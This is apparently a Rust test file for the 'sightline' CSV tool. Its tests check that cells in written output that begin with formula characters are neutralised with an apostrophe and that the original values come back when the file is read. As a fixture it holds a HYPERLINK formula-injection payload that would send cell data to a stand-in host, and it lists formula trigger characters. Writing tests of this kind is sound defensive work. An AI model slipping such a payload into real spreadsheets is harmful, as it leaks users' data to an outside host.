//! Formula injection: every CSV `sightline` writes neutralises a cell a spreadsheet would run
//! (OWASP), and reading the file back gives the original value.

use crate::util::Sandbox;
use sightline_intake::{Limits, Profile, reader};
use sightline_standard::cells::restore;

const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"open\")";

/// The rows of a CSV as written, without restoring anything.
fn raw_rows(sandbox: &Sandbox, relative: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(sandbox.join(relative))
        .expect("open");
    reader
        .records()
        .map(|r| r.expect("a record").iter().map(String::from).collect())
        .collect()
}

#[test]
fn normalised_output_neutralises_formulas_and_reads_back() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "people.csv",
        format!(
            "person_id,role,given_name,family_name,date_of_birth,sex\n\"@P1\",victim,\"{}\",-Doe,2009-04-17,female\n",
            FORMULA.replace('"', "\"\"")
        ),
    );
    sandbox
        .run(&["check", "people.csv", "--normalised", "out"])
        .expect_code(0);
    let rows = raw_rows(&sandbox, "out/people.csv");
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let row = &rows[1];
    assert_eq!(row[column("given_name")], format!("'{FORMULA}"));
    assert_eq!(row[column("family_name")], "'-Doe");
    assert_eq!(row[column("person_id")], "'@P1");
    // Read back by Sightline's own reader, the values are the agency's.
    let (mut sources, _) = reader::open(
        &sandbox.join("out/people.csv"),
        &Profile::default(),
        &Limits::default(),
    )
    .expect("open");
    let source = &mut sources[0];
    let at = |name: &str| source.headers.iter().position(|h| h == name).expect(name);
    let (given, family, id) = (at("given_name"), at("family_name"), at("person_id"));
    let mut cells = Vec::new();
    source.next_row(&mut cells).expect("a row").expect("a row");
    assert_eq!(cells[given], FORMULA);
    assert_eq!(cells[family], "-Doe");
    assert_eq!(cells[id], "@P1");
}

#[test]
fn problems_csv_neutralises_formulas() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "people.csv",
        format!(
            "person_id,role,given_name,family_name,date_of_birth,sex\nP1,\"{}\",Ann,Doe,2009-04-17,female\n",
            FORMULA.replace('"', "\"\"")
        ),
    );
    sandbox
        .run(&["check", "people.csv", "--problems", "problems.csv"])
        .expect_code(0);
    let rows = raw_rows(&sandbox, "problems.csv");
    let value = rows[0].iter().position(|h| h == "value").expect("value");
    let row = rows
        .iter()
        .find(|row| row[value].contains("HYPERLINK"))
        .expect("the role's problem (W101: kept as unmapped)");
    assert_eq!(row[value], format!("'{FORMULA}"));
    assert_eq!(restore(&row[value]), FORMULA);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
}

#[test]
fn dedupe_out_neutralises_ids_and_reads_them_back() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "people.csv",
        "record_id,given_name,family_name,date_of_birth\n=1+2,Ann,Example,2001-02-03\n@A,Ann,Example,2001-02-03\nB,Sam,Other,1990-05-06\n",
    );
    sandbox
        .run(&[
            "dedupe",
            "people.csv",
            "--id",
            "record_id",
            "--out",
            "clusters.csv",
        ])
        .expect_code(0);
    let rows = raw_rows(&sandbox, "clusters.csv");
    let ids: Vec<&str> = rows[1..].iter().map(|row| row[0].as_str()).collect();
    assert_eq!(ids, ["'=1+2", "'@A", "B"]);
    // The written file is read back by dedupe itself as the original ids.
    let run = sandbox.run(&[
        "dedupe",
        "clusters.csv",
        "--id",
        "id",
        "--columns",
        "given_name=cluster_id",
        "--out",
        "again.csv",
    ]);
    run.expect_code(0);
    let again = raw_rows(&sandbox, "again.csv");
    let ids: Vec<&str> = again[1..].iter().map(|row| row[0].as_str()).collect();
    assert_eq!(ids, ["'=1+2", "'@A", "B"]);
}
